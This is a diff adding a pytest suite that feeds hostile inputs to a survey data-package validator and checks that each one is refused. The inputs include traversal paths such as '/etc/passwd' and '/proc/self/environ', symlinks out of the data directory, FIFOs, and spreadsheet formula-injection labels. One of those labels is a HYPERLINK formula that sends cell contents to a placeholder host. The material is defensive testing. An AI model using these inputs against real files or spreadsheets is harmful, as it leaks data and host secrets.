@@ -1,0 +1,265 @@
+"""Hostile data (issue 14): every test starts from a copy of data/ and breaks one thing.
+
+Nothing outside the data directory is read or published, and every bad input is
+stopped by validation with a sentence (file, line, field, what is wrong, how to fix it).
+"""
+from __future__ import annotations
+
+import csv
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from src.datapkg import MAX_FILE_BYTES, MAX_LABEL, MAX_ROWS, published_files, validate_directory
+
+from conftest import REPO, run_build
+
+SECRET = "hostile-test-secret-4f1e"
+
+
+@pytest.fixture
+def data(tmp_path) -> Path:
+    """A private copy of data/."""
+    return Path(shutil.copytree(REPO / "data", tmp_path / "data"))
+
+
+def problems(directory: Path) -> str:
+    return "\n".join(str(p) for p in validate_directory(directory))
+
+
+def edit_package(directory: Path, change) -> None:
+    path = directory / "datapackage.json"
+    package = json.loads(path.read_text(encoding="utf-8"))
+    change(package)
+    path.write_text(json.dumps(package, ensure_ascii=False, indent=1), encoding="utf-8")
+
+
+def set_path(directory: Path, name: str, path: str) -> None:
+    edit_package(directory, lambda p: next(r for r in p["resources"] if r["name"] == name).update(path=path))
+
+
+def replace_in(path: Path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new), encoding="utf-8")
+
+
+def validate_cli(directory: Path | str) -> subprocess.CompletedProcess:
+    """The `validate` command, with a timeout: opening a FIFO would block for ever."""
+    return subprocess.run([sys.executable, "-m", "src.pipeline", "validate", "--data", str(directory)], cwd=REPO,
+                          capture_output=True, text=True, timeout=60, env=dict(os.environ, HOSTILE=SECRET))
+
+
+def test_the_real_data_passes(data):
+    assert problems(data) == ""
+
+
+# --------------------------------------------------------------------------- 1. confinement
+
+@pytest.mark.parametrize("path, reason", [
+    ("/proc/self/environ", "is an absolute path"),
+    ("/etc/passwd", "is an absolute path"),
+    ("../../x.csv", "leads out of the data directory"),
+])
+def test_paths_leaving_the_directory_are_refused_without_reading_them(data, path, reason):
+    set_path(data, "fig12", path)
+    proc = validate_cli(data)
+    assert proc.returncode == 1
+    assert f"field 'path': resource 'fig12': '{path}' {reason}" in proc.stderr and "nothing was read" in proc.stderr
+    assert SECRET not in proc.stderr + proc.stdout and "root:" not in proc.stderr
+
+
+def test_a_symlink_leaving_the_directory_is_refused_without_opening_it(data, tmp_path):
+    outside = tmp_path / "outside.fifo"
+    os.mkfifo(outside)                       # opening it would hang the validation
+    (data / "fig12.csv").unlink()
+    (data / "fig12.csv").symlink_to(outside)
+    proc = validate_cli(data)
+    assert proc.returncode == 1
+    assert "'fig12.csv' is a symbolic link to a file outside the data directory; nothing was read" in proc.stderr
+
+
+def test_a_symlink_to_a_host_file_is_refused_and_its_content_never_quoted(data):
+    (data / "fig12.csv").unlink()
+    (data / "fig12.csv").symlink_to("/etc/passwd")
+    text = problems(data)
+    assert "symbolic link to a file outside the data directory" in text and "root" not in text
+
+
+def test_readme_linked_from_outside_is_refused_and_not_published(data, tmp_path):
+    secret = tmp_path / "secret.md"
+    secret.write_text(SECRET, encoding="utf-8")
+    (data / "README.md").unlink()
+    (data / "README.md").symlink_to(secret)
+    assert "README.md: 'README.md' is a symbolic link to a file outside the data directory" in problems(data)
+    assert "README.md" not in [p.name for p in published_files(data)]
+
+
+def test_only_listed_regular_files_are_published(data):
+    (data / "notes.txt").write_text("private", encoding="utf-8")
+    names = [p.name for p in published_files(data)]
+    assert names == sorted(["README.md", "datapackage.json", "fig01.csv", "fig03.csv", "fig04.csv", "fig11.csv",
+                            "fig12.csv", "fig13.csv", "fig14.csv", "fig15.csv", "fig16.csv"])
+
+
+def test_a_table_in_a_subdirectory_is_refused_with_the_fix(data):
+    (data / "sub").mkdir()
+    (data / "fig12.csv").rename(data / "sub" / "fig12.csv")
+    set_path(data, "fig12", "sub/fig12.csv")
+    text = problems(data)
+    assert "'sub/fig12.csv' is in a subdirectory" in text
+    assert 'copy the table into the data directory as fig12.csv and set "path": "fig12.csv"' in text
+
+
+def test_a_table_under_another_name_is_refused(data):
+    (data / "fig12.csv").rename(data / "staff.csv")
+    set_path(data, "fig12", "staff.csv")
+    assert "the book publishes each table as fig12.csv" in problems(data)
+
+
+# --------------------------------------------------------------------------- 4. validation before any chapter
+
+@pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1b", "\u2028"])
+def test_control_characters_in_a_label_are_refused(data, char):
+    replace_in(data / "fig12.csv", "常勤職員,", f"常勤{char}職員,")
+    text = problems(data)
+    assert f"fig12.csv, line 2, field 'item': contains the control character U+{ord(char):04X}" in text
+
+
+def test_control_characters_in_metadata_are_refused(data):
+    edit_package(data, lambda p: p["resources"][11].update(title="職員\x0bの配置"))
+    assert "field 'resources[11].title'" in problems(data)
+
+
+def test_missing_survey_block_is_refused(data):
+    edit_package(data, lambda p: p.pop("survey"))
+    assert "datapackage.json, field 'survey': 'survey' is missing — fix: add the \"survey\" block" in problems(data)
+
+
+def test_population_zero_is_refused(data):
+    edit_package(data, lambda p: p["survey"].update(population=0))
+    text = problems(data)
+    assert "field 'survey.population': 0 is not allowed here (must be ≥ 1)" in text
+
+
+def test_figure_without_table_needs_prose_facts(data):
+    edit_package(data, lambda p: p["resources"][4].pop("prose_facts"))
+    text = problems(data)
+    assert "field 'resources[4].prose_facts': 'prose_facts' is missing in resources[4]" in text
+    assert "a figure without a table needs \"prose_facts\"" in text
+
+
+def test_extra_metadata_keys_are_allowed(data):
+    def add(p):
+        p["sources"][0].update(path="https://example.org/dp145.pdf", publisher="NISTEP", erratum={"date": "2017-05"})
+        p["resources"][0]["derived"] = "a note"
+    edit_package(data, add)
+    assert problems(data) == ""
+
+
+def test_too_many_rows_are_refused(data):
+    rows = "".join(f",選択肢{i},,1,{MAX_ROWS + 1},0.5\n" for i in range(MAX_ROWS + 1))
+    (data / "fig12.csv").write_text("series,item,level,count,n,percent\n" + rows, encoding="utf-8")
+    assert f"fig12.csv: has {MAX_ROWS + 1} rows; the limit is {MAX_ROWS}" in problems(data)
+
+
+def test_a_long_label_is_refused(data):
+    replace_in(data / "fig12.csv", "常勤職員,", "職" * (MAX_LABEL + 1) + ",")
+    assert f"field 'item': is {MAX_LABEL + 1} characters long; the limit is {MAX_LABEL}" in problems(data)
+
+
+def test_a_cell_beyond_the_csv_field_limit_is_a_message(data):
+    replace_in(data / "fig12.csv", "常勤職員,", "職" * (csv.field_size_limit() + 1) + ",")
+    assert "fig12.csv, line 2: a cell is longer than 131,072 characters" in problems(data)
+
+
+def test_an_oversized_file_is_refused_before_reading(data):
+    with open(data / "fig12.csv", "ab") as fh:
+        fh.truncate(MAX_FILE_BYTES + 1)
+    assert f"is {MAX_FILE_BYTES + 1:,} bytes; the limit is {MAX_FILE_BYTES:,} bytes" in problems(data)
+
+
+def test_datapackage_json_as_a_directory_is_a_message(data):
+    (data / "datapackage.json").unlink()
+    (data / "datapackage.json").mkdir()
+    proc = validate_cli(data)
+    assert proc.returncode == 1 and "datapackage.json: is a directory, not a file" in proc.stderr
+    assert "Traceback" not in proc.stderr
+
+
+def test_datapackage_json_as_a_fifo_does_not_hang(data):
+    (data / "datapackage.json").unlink()
+    os.mkfifo(data / "datapackage.json")
+    proc = validate_cli(data)
+    assert proc.returncode == 1 and "datapackage.json: is not a regular file" in proc.stderr
+
+
+def test_utf16_is_named_as_utf16(data):
+    text = (data / "fig12.csv").read_text(encoding="utf-8")
+    (data / "fig12.csv").write_bytes(text.encode("utf-16"))
+    text = problems(data)
+    assert "fig12.csv: the file is UTF-16" in text and "CP932" not in text.split("fix:")[0]
+
+
+def test_data_that_is_a_file_is_not_a_directory(data):
+    proc = validate_cli(data / "fig12.csv")
+    assert proc.returncode == 1 and "fig12.csv: is not a directory" in proc.stderr
+
+
+def test_validate_does_not_say_build_failed(data):
+    replace_in(data / "fig12.csv", ",31,108,", ",310,108,")
+    proc = validate_cli(data)
+    assert proc.returncode == 1
+    assert "BUILD FAILED" not in proc.stderr and "INVALID" in proc.stderr
+    assert "count 310 is larger than n 108" in proc.stderr
+
+
+@pytest.mark.parametrize("cell, expected", [
+    ("３１", "'３１' is written with full-width or other non-ASCII digits (write 31)"),
+    ("٣١", "'٣١' is written with full-width or other non-ASCII digits (write 31)"),
+    ("3_1", "'3_1' contains '_'"),
+    ("3.1e1", "'3.1e1' is in exponent notation (write it out, e.g. 31)"),
+    ("+31", "'+31' is not a plain number"),
+    ("-0", "'-0' has a minus sign"),
+])
+def test_numbers_are_plain_ascii_or_refused(data, cell, expected):
+    replace_in(data / "fig12.csv", ",31,108,", f",{cell},108,")
+    text = problems(data)
+    assert f"fig12.csv, line 2, field 'count': {expected}" in text
+
+
+# --------------------------------------------------------------------------- 5. spreadsheet formulas
+
+@pytest.mark.parametrize("label", ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1", "-職員", "@SUM(A1)",
+                                   "\t=1+1", "\r=1+1"])
+def test_labels_a_spreadsheet_would_run_are_refused(data, label):
+    quoted = '"' + label.replace('"', '""') + '"'
+    replace_in(data / "fig12.csv", "常勤職員,", quoted + ",")
+    text = problems(data)
+    assert "fig12.csv, line 2, field 'item': begins with" in text
+    assert "would run the cell as a formula" in text
+
+
+def test_the_build_stops_at_validation_before_any_chapter_runs(data, tmp_path):
+    replace_in(data / "fig12.csv", "常勤職員,", "常勤\x0b職員,")
+    proc = run_build(data, tmp_path / "_build")
+    assert proc.returncode == 1
+    assert "fig12.csv, line 2, field 'item': contains the control character U+000B" in proc.stderr
+    assert "chapters:" not in proc.stdout and "BrokenProcessPool" not in proc.stderr
+    assert not (tmp_path / "_build" / "html").exists()
+
+
+def test_the_cache_keys_on_the_resolved_directory_not_the_name_shown(tmp_path):
+    from src.execute import plan_tasks
+
+    first = Path(shutil.copytree(REPO / "data", tmp_path / "one" / "data"))
+    second = Path(shutil.copytree(REPO / "data", tmp_path / "two" / "data"))
+    one, two = (plan_tasks(REPO, tmp_path / "_build", d) for d in (first, second))
+    assert [t.parameters["data_dir"] for t in one] == [t.parameters["data_dir"] for t in two] == ["data"] * len(one)
+    assert not {t.key for t in one} & {t.key for t in two}
+    assert {t.data_dir for t in one} == {first.resolve()}
